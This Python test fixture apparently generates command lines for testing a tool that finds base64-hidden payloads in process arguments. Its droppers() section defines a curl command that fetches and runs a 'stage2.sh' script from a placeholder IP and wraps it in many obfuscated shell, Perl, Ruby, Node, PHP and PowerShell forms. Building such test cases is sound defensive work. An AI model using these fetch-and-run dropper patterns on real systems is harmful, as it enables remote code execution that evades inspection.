# SPDX-License-Identifier: GPL-3.0-or-later
"""The command lines of the live test: what is run, and what must be found.

Everything is made from a fixed seed, so that a failure can be looked at
again. A Command is run as `program` with exactly `argv`; `hidden` is the text
that must be found decoded in it (None: nothing is hidden), `children` the
argv of the programs it starts in turn, all without own children.
"""

import base64
import random
import sys
from collections import namedtuple

Command = namedtuple("Command", "program argv hidden children")

COUNT = 1000
TRUE = b"/bin/true"
NETWORK = "curl -fsS http://192.0.2.7/stage2.sh -o /tmp/.x && sh /tmp/.x"
PIPED = ((b"base64", b"-d"), (b"sh",))


def plain(*argv):
    return Command(TRUE, tuple(argv), None, ())


def b64(text, pad=True, wrap=0):
    data = text if isinstance(text, bytes) else text.encode()
    out = base64.b64encode(data).decode()
    if not pad:
        out = out.rstrip("=")
    if wrap:
        out = "\n".join(out[i:i + wrap] for i in range(0, len(out), wrap))
    return out


def droppers():
    """Base64 in the ways it is met; none does harm, and few are run."""

    def shown(hidden, *argv):
        words = [w if isinstance(w, bytes) else w.encode() for w in argv]
        return Command(TRUE, tuple(words), hidden, ())

    def real(program, hidden, children, *argv):
        words = [w.encode() for w in argv]
        return Command(program, tuple(words), hidden, children)

    # bytes that need both characters in which the alphabets differ
    urlsafe = "print('\u00bf\u00be?>?>~~~ \u00fb\u00ff harmless')"
    encoded = base64.urlsafe_b64encode(urlsafe.encode()).decode()
    assert "-" in encoded and "_" in encoded
    odd = ": not a multiple of three bytes!"
    assert b64(odd).endswith("=")
    inner = "true harmless innermost layer"
    second = "echo %s | base64 -d | sh" % b64(inner)
    third = "echo %s | base64 -d | bash" % b64("echo %s|base64 -d|sh"
                                               % b64("id; uname -a; w"))
    long = "".join(": line %d of a long script\n" % i for i in range(1200))
    utf16 = "Write-Output 'harmless'; Get-ChildItem C:\\Users"
    utf16 = utf16.encode("utf-16-le")
    python = "import sys; sys.exit(0)  # harmless"

    return [
        real(b"/bin/sh", ": harmless one; true", PIPED, "sh", "-c",
             "echo %s | base64 -d | sh" % b64(": harmless one; true")),
        real(b"/bin/bash", ": harmless two; true", ((b"base64", b"-d"),),
             "bash", "-c",
             'eval "$(echo %s | base64 -d)"' % b64(": harmless two; true")),
        real(b"/bin/sh", inner, PIPED + PIPED, "sh", "-c",
             "echo %s | base64 -d | sh" % b64(second)),
        real(sys.executable.encode(), python, (), sys.executable, "-c",
             "import base64;exec(base64.b64decode('%s'))" % b64(python)),
        shown(NETWORK, "bash", "-c",
              "echo %s | base64 --decode | bash" % b64(NETWORK)),
        shown(NETWORK, "perl", "-MMIME::Base64", "-e",
              'eval decode_base64("%s")' % b64("system('%s')" % NETWORK)),
        shown("harmless", "python3", "-c", "import base64;"
              "exec(base64.urlsafe_b64decode('%s'))" % encoded),
        shown(odd, "bash", "-c",
              "echo %s | base64 -d 2>/dev/null | sh" % b64(odd, pad=False)),
        shown(NETWORK, "sh", "-c", "base64 -d <<'EOF' | sh\n%s\nEOF\n"
              % b64(NETWORK, wrap=64)),
        shown(NETWORK, "sh", "-c", 'printf "%%s" "%s" | openssl enc -d -base64'
              " | sh" % b64(NETWORK, wrap=32)),
        shown("id; uname -a; w", "bash", "-c",
              "echo %s | base64 -d | sh" % b64(third)),
        shown("id;w", "sh", "-c", "echo %s | base64 -d | sh" % b64("id;w")),
        shown("w;id -u", "sh", "-c", "echo %s|base64 -d|sh"
              % b64("w;id -u", pad=False)),
        shown("Get-ChildItem", "pwsh", "-NoProfile", "-EncodedCommand",
              b64(utf16)),
        shown("Write-Output", "pwsh", "-nop", "-enc", b64(utf16, pad=False)),
        shown(NETWORK, "bash", "-c",
              "{echo,%s}|{base64,-d}|{bash,-i}" % b64(NETWORK)),
        shown(NETWORK, "bash", "-c", 'bash <<< "$(base64 -d <<< %s)"'
              % b64(NETWORK)),
        shown("phpinfo(); system('id');", "php", "-r",
              'eval(base64_decode("%s"));' % b64("phpinfo(); system('id');")),
        shown(NETWORK, "ruby", "-rbase64", "-e",
              "system(Base64.decode64('%s'))" % b64(NETWORK)),
        shown(NETWORK, "node", "-e", "require('child_process').execSync("
              "Buffer.from('%s','base64').toString())" % b64(NETWORK)),
        shown(NETWORK, "/tmp/.cache/upd", "--run", b64(NETWORK)),
        shown(": line 0 of a long script", "sh", "-c",
              "echo %s | base64 -d | sh" % b64(long)),
        shown("\u043f\u0440\u0438\u0432\u0435\u0442", "sh", "-c",
              "echo %s | base64 -d | sh"
              % b64("echo '\u043f\u0440\u0438\u0432\u0435\u0442 harmless'")),
    ]


def long_ones(rnd):
    words = [b"alpha", b"beta", b"gamma", b"delta", b"x", b"/tmp/y", b"%s"]

    def text(size, gap):
        out = gap.join(rnd.choice(words) for _ in range(size // 3))
        return out[:size]

    big = 120 * 1000
    yield plain(b"long", text(big, b" "))
    yield plain(b"long", text(big, b","))
    yield plain(b"long", bytes(rnd.randrange(1, 256) for _ in range(big)))
    yield plain(b"long", text(big, b"\n"), b"", b"after")
    yield plain(b"long", b"-", text(big, b"'\" "), text(big, b"_"), b"end")
    for n in (3000, 3000, 3000):
        yield plain(b"many", *(b"%s%d" % (rnd.choice(words), i)
                               for i in range(n - 1)))
    # the kernel changes between quotes, hex and pieces around these
    for size in (127, 128, 129, 3749, 3750, 3751, 7479, 7480, 7481, 7499,
                 7500, 7501, 8191, 8192, 14999, 15000, 15001):
        yield plain(b"edge", text(size, b"."))
        yield plain(b"edge", text(size, b" "), text(size, b":"))


def awkward(rnd):
    """What breaks parsers, encoders and terminals."""
    look_alikes = [
        b"type=EXECVE msg=audit(1.1:1): argc=1 a0=x", b"a0=\"x\"", b"a2[0]=41",
        b"a1_len=7", b"msg='op=x acct=\"root\"'", b"audit(1.001:2):",
        b"argc=3",
        b"414243", b"DEADBEEF", b"(null)", b"?", b"(none)", b"key=(null)",
        b"\x1dUID=\"root\" AUID=\"root\"", b"#012", b"\\x41\\n", b"%n%s%d",
        b"<13>Jan  1 00:00:00 host sshd[1]: x",
        b"{\"v\":1,\"evt\":\"exec\"}",
        b"\",\"score\":99,\"x\":\"", b"@cee: {", b"\xef\xbb\xbf", b"--", b"-",
        b"\x1b[2J\x1b]0;t\x07", b"a=b c=d", b"$(id)`id`", b"node=web1 ",
    ]
    texts = ["\u00fcber", "\u65e5\u672c\u8a9e", "\u0440\u0443\u0441\u0441",
             "\U0001f600\U0001f4a3", "e\u0301\u0323", "\u202eevil\u2066",
             "\u2028\u0085", "\u05e9\u05dc\u05d5\u05dd", "\ufffd", "\uffff",
             "\U0010ffff", "na\u00efve caf\u00e9"]
    broken = [b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
              b"ok\xe2\x82", b"\x80abc", b"\xc3", b"a\xfeb\xffc", b"\x9b31m"]
    quotes = [b"'", b'"', b"it's", b'say "hi"', b"\\", b"\\'", b'\\"', b"`",
              b"''", b'""', b"'\"'\"'", b"trailing\\", b"a'b\"c\\d"]
    breaks = [b"\n", b"a\nb", b"\r\n", b"\t", b"\x0b\x0c", b"\n\n", b" ",
              b"  two  ", b"\x01\x02\x7f", b"end\n"]

    def some(pool, n):
        return [rnd.choice(pool) for _ in range(n)]

    for one in look_alikes:
        yield plain(b"alike", one, b"after")
        yield plain(one or b"x", b"alike", one)
    for i in range(60):
        yield plain(b"quotes", *some(quotes, 1 + i % 6))
        yield plain(b"breaks", *some(breaks, 1 + i % 5))
        yield plain(b"utf8", *(t.encode() for t in some(texts, 1 + i % 4)))
        yield plain(b"bytes", *some(broken, 1 + i % 4))
        yield plain(*some([b"empty", b"", b"", b"x y", b"-"], 1 + i % 7))
    yield plain(b"", b"")
    yield plain(b"every", bytes(range(1, 256)))
    yield plain(b"every", *(bytes([i]) for i in range(1, 256)))
    for i in range(40):
        yield plain(b"mixed", *some(quotes + breaks + broken + look_alikes
                                    + [t.encode() for t in texts] + [b""],
                                    rnd.randrange(1, 30)))


def daily(rnd):
    """What an administrator types all day: nothing in it is hidden."""
    forms = [
        "ls -la /var/log/{w}", "grep -rn {w} /etc/{w}.d", "cat /etc/{w}.conf",
        "systemctl status {w}.service", "journalctl -u {w} --since=-{n}min",
        "tar czf /backup/{w}-{n}.tgz /srv/{w}", "rsync -a /srv/{w}/ b:/{w}/",
        "git log --oneline -n {n}", "ps -ef --sort=-pcpu", "kill -HUP {n}",
        "chmod 06{n} /srv/{w}/file.{n}", "curl -s http://localhost:{n}/{w}",
        "find / -xdev -name *.{w} -mtime +{n}", "awk -F: {{print$1}} /etc/{w}",
        "docker ps --filter name={w}-{n}", "sed -i s/{w}/{n}/g {w}.txt",
        "dd if=/dev/zero of=/tmp/{w} bs=1M count={n}", "id {w}{n}",
    ]
    nouns = ("nginx ssh cron backup users mail proxy cache queue report "
             "deploy metrics disk kernel").split()
    while True:
        line = rnd.choice(forms).format(w=rnd.choice(nouns),
                                        n=rnd.randrange(10, 70))
        yield plain(*(word.encode() for word in line.split(" ")))


def commands():
    rnd = random.Random(2)
    out = droppers() + list(long_ones(rnd)) + list(awkward(rnd))
    fill = daily(rnd)
    while len(out) < COUNT:
        out.append(next(fill))
    assert len(out) == COUNT
    rnd.shuffle(out)
    return out
